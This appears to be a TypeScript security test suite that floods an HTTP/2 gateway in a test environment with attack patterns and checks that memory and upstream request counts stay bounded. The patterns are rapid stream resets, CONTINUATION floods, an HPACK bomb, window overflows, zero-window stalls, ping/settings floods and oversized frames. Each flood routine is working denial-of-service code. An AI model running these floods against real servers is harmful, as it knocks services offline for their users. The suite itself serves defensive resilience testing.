// Attack class HTTP/2 denial of service: floods of each frame type, with another user beside them.

import { setTimeout as pause } from 'node:timers/promises'
import { must, type AttackSuite, type Check } from '../case.ts'
import type { Environment } from '../environment.ts'
import { withBackgroundClient } from '../background-client.ts'
import { endHeaders, endStream, fieldsBlock, frame, frames, type RawHttp2 } from '../raw-http2-client.ts'
import { connect, right, set } from './http2.ts'

export const http2Dos: AttackSuite = {
  class: 'http2',
  checks: [
    flood('streams opened and reset', async (client, ground) => {
      const block = fieldsBlock(right(ground))
      for (let stream = 1; stream < 20_000; stream += 2) {
        const open = client.send(
          frame(frames.headers, endHeaders | endStream, stream, block),
          frame(frames.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
        )
        if (!open) break
        if (stream % 200 === 1) await pause(1)
      }
    }),
    flood('streams that make the gateway reset them', async (client, ground) => {
      const block = fieldsBlock(set(':method', 'POST')(right(ground)))
      const overflow = Buffer.from([0x7f, 0xff, 0xff, 0xff])
      for (let stream = 1; stream < 6_000; stream += 2) {
        const open = client.send(
          frame(frames.headers, endHeaders, stream, block),
          frame(frames.window, 0, stream, overflow),
          frame(frames.window, 0, stream, overflow),
        )
        if (!open) break
        if (stream % 200 === 1) await pause(1)
      }
    }),
    flood('a head without an end', async (client, ground) => {
      client.send(frame(frames.headers, 0, 1, fieldsBlock(right(ground))))
      const more = fieldsBlock([['x-more', 'a'.repeat(8_000)]])
      for (let count = 0; count < 20_000 && client.send(frame(frames.more, 0, 1, more)); count++) {
        if (count % 20 === 0) await pause(1)
      }
    }),
    flood('a head of empty pieces', async (client, ground) => {
      client.send(frame(frames.headers, 0, 1, fieldsBlock(right(ground))))
      for (let count = 0; count < 50_000 && client.send(frame(frames.more, 0, 1)); count++) {
        if (count % 500 === 0) await pause(1)
      }
    }),
    flood('one remembered field, said thousands of times', async (client, ground) => {
      // RFC 7541 6.2.1: stored in the dynamic table, then referenced by one byte each (HPACK bomb).
      const kept = Buffer.concat([Buffer.from([0x40]), fieldsBlock([['x-bomb', 'a'.repeat(3_900)]]).subarray(1)])
      const again = Buffer.alloc(4_000, 0x80 | 62)
      for (let stream = 1; stream < 400; stream += 2) {
        const block = Buffer.concat([fieldsBlock(right(ground)), kept, again])
        if (!client.send(frame(frames.headers, endHeaders | endStream, stream, block))) break
        await pause(1)
      }
    }),
    flood('a block that is no HPACK', async (client) => {
      for (let stream = 1; stream < 400; stream += 2) {
        if (!client.send(frame(frames.headers, endHeaders | endStream, stream, Buffer.alloc(16_000, 0xff)))) break
        await pause(1)
      }
    }),
    flood('pings, settings and priorities', async (client) => {
      for (let count = 0; count < 20_000; count++) {
        const open = client.send(
          frame(frames.ping, 0, 0, Buffer.alloc(8)),
          frame(frames.settings, 0, 0),
          frame(frames.priority, 0, 1, Buffer.from([0, 0, 0, 3, 16])),
        )
        if (!open) break
        if (count % 200 === 0) await pause(1)
      }
    }),
    flood('pieces of nothing', async (client, ground) => {
      client.send(frame(frames.headers, endHeaders, 1, fieldsBlock(set(':method', 'POST')(right(ground)))))
      for (let count = 0; count < 50_000 && client.send(frame(frames.data, 0, 1)); count++) {
        if (count % 500 === 0) await pause(1)
      }
    }),
    flood('responses that the client does not read', async (client, ground) => {
      // Window 0 for every stream (SETTINGS_INITIAL_WINDOW_SIZE).
      client.send(frame(frames.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])))
      const block = fieldsBlock(right(ground))
      for (let stream = 1; stream < 2_000; stream += 2) {
        if (!client.send(frame(frames.headers, endHeaders | endStream, stream, block))) break
        if (stream % 50 === 1) await pause(1)
      }
    }),
    flood('frames above the maximum size', async (client) => {
      client.send(frame(frames.headers, endHeaders, 1, Buffer.alloc(1_000_000)))
      client.send(frame(frames.data, 0, 0, Buffer.alloc(100)))
      await pause(10)
    }),
  ],
}

function flood(name: string, attack: (client: RawHttp2, ground: Environment) => Promise<void>): Check {
  return {
    name: `a flood: ${name}`,
    async run(ground) {
      const before = ground.upstream.requests.length
      const clients: RawHttp2[] = []
      let ended = 0
      try {
        const figures = await withBackgroundClient(ground, async () => {
          for (let round = 0; round < 3; round++) {
            const client = await connect(ground)
            clients.push(client)
            await attack(client, ground)
          }
          await pause(300)
          ended = clients.filter((client) => client.closed() || client.goneAway() !== undefined).length
        })
        const reached = ground.upstream.requests.slice(before).filter(({ values }) => values('user-agent').length === 0)
        must(reached.length < 1_500, 'few requests upstream', reached.length)
        must(ground.node.rss() < 600 * 1024 * 1024, 'bounded memory', ground.node.rss())
        return `${figures}; ${ended} of 3 connections ended, ${reached.length} requests upstream`
      } finally {
        for (const client of clients) client.end()
      }
    },
  }
}
